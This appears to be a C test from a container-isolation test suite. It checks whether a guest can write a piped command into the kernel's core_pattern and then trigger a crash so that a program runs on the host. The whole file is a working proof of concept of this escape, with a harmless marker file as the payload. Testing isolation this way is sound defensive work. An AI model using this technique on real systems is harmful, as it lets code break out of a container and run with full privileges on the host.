// SPDX-License-Identifier: GPL-2.0-only
// A core_pattern that begins with "|" is a program of the host, with all
// capabilities, for each process that crashes: the guest writes it, and
// crashes.
#include <signal.h>
#include <sys/resource.h>

#include "attack.h"

#define PATTERN	"/proc/sys/kernel/core_pattern"
#define MARK	"/tmp/core_pattern_ran"

int main(void)
{
	struct rlimit big = { RLIM_INFINITY, RLIM_INFINITY };
	char *was = get(PATTERN);
	bool ran = false;
	pid_t pid;
	int i;

	if (!was)
		refused("open " PATTERN);
	if (put(PATTERN, "|/bin/busybox touch " MARK))
		refused("write " PATTERN);
	pid = fork();
	NEED(pid >= 0);
	if (!pid) {
		setrlimit(RLIMIT_CORE, &big);
		abort();
	}
	waitpid(pid, NULL, 0);
	for (i = 0; i < 50 && !ran; i++) {
		usleep(100000);
		ran = !unlink(MARK);
	}
	put(PATTERN, was);
	if (ran)
		worked("a program ran on the host");
	harmless("a crash");
}
